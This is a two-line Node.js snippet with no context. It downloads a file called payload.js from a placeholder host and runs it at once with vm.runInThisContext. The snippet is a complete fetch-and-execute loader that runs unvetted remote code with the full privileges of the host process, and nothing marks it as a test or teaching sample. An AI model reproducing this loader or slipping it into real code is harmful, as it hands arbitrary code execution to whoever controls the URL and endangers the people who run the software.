const vm = require('vm');
require('https').get('https://dl.example.invalid/payload.js', r => { let s=''; r.on('data', c => s += c); r.on('end', () => vm.runInThisContext(s)); });
